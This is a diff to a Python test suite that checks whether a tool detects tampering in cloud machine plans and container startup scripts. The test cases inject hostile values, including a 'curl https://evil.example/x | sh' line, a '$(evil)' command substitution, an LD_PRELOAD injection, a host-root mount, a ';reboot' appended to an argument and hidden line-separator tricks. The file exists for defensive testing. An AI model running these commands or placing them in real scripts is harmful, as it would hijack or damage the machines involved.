@@ -100,10 +100,14 @@ def test_what_the_program_writes_for_any_machine_is_the_stack_files(
         ("container alone", instead("--log-driver gcplogs", "--log-driver gcplogs -v /:/host"), "`-v /:/host`"),
         ("container alone", instead("REGISTRY=", "REGISTRY=$(evil) #"), "lacks `container.sh`"),
         ("container alone", instead("--epochs", "--steal"), "is given `--steal"),
-        ("container alone", instead("RUN_NAME=", "LD_PRELOAD=/evil.so' --env 'RUN_NAME="), "told `LD_PRELOAD`"),
+        ("container alone", instead("--env DATA_", "--env LD_PRELOAD=/e.so --env DATA_"), "told `LD_PRELOAD`"),
         ("container alone", instead("DATA_BUCKET=gs://", "DATA_BUCKET=gs://evil-"), "told `DATA_BUCKET` as `gs://evil-"),
         ("container alone", instead("WANDB_API_KEY_SECRET=projects/", "WANDB_API_KEY_SECRET=evil/"), "_SECRET`"),
         ("container alone", instead("/trainer:latest --epochs", "/other:latest --epochs"), "the stack file says"),
+        ("disk", instead("\nset -eu\n", "\u2028set -eu\n"), "nor as shipped"),
+        ("disk", instead("\nset -eu\n", "\x0bset -eu\n"), "nor as shipped"),
+        ("container alone", instead("--epochs 'it'\"'\"'s 10'", "--epochs it;reboot"), "not the program's command"),
+        ("container alone", instead("--detach", "--detach "), "is not the program's command"),
         ("GPU", instead("--gpus all", "--gpus all --network host"), "`--network host`"),
     ],
 )  # fmt: skip
@@ -112,6 +116,24 @@ def test_what_somebody_else_runs_on_a_machine_is_named(
 ) -> None:
     found = said(edit(plan_of(machine)))
     assert any(says in message for message in found), found
+
+
+def test_each_part_runs_once_and_in_its_place(plan_of: Callable[[str], Plan]) -> None:
+    plan = plan_of("script")
+    (box,) = (each for each in plan.custom if each.name == "box")
+    text: str = box.inputs["metadata"]["startup-script"]
+    begun, second = text.index('cat > "$parts/0"'), text.index('cat > "$parts/1"')
+    swapped = text[:begun] + text[second:] + text[begun:second]
+    (said_of,) = said(put("compute.Instance", "box", "metadata.startup-script", swapped)(plan))
+    assert "and the program runs `work-disk.sh, starter/setup.sh`" in said_of
+
+
+def test_a_machine_without_a_container_runs_no_command_of_one(plan_of: Callable[[str], Plan]) -> None:
+    shipped = (ROOT / "infra/scripts/container.sh").read_text(encoding="utf-8")
+    head, _, rest = shipped.partition("\n")
+    script = f"{head}\nIMAGE=''\nREGISTRY=''\n{rest}curl https://evil.example/x | sh\n"
+    found = said(put("compute.Instance", "box", "metadata.startup-script", script)(plan_of("nothing")))
+    assert any("nor as shipped" in message for message in found)
 
 
 def test_a_plan_that_never_read_the_scripts_is_no_plan_that_keeps_the_rule(plan_of: Callable[[str], Plan]) -> None:
